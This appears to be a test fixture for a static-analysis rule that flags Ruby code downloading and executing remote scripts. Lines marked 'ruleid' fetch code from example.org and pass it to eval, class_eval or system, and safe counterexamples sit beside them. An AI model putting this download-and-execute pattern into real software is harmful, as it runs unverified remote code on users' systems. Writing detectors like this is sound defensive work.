require "net/http"
require "open-uri"

# ruleid: ruby.download.executed
eval(URI.open("https://example.org/setup.rb").read)
code = Net::HTTP.get(URI("https://example.org/setup.rb"))
# ruleid: ruby.download.executed
Object.class_eval(code)
# ruleid: ruby.download.executed
system(HTTParty.get("https://example.org/setup.sh").body)
# ok: ruby.download.executed
eval(File.read("setup.rb"))
# ok: ruby.download.executed
settings = JSON.parse(Net::HTTP.get(URI("https://example.org/settings.json")))
# ok: ruby.download.executed
system("echo done")
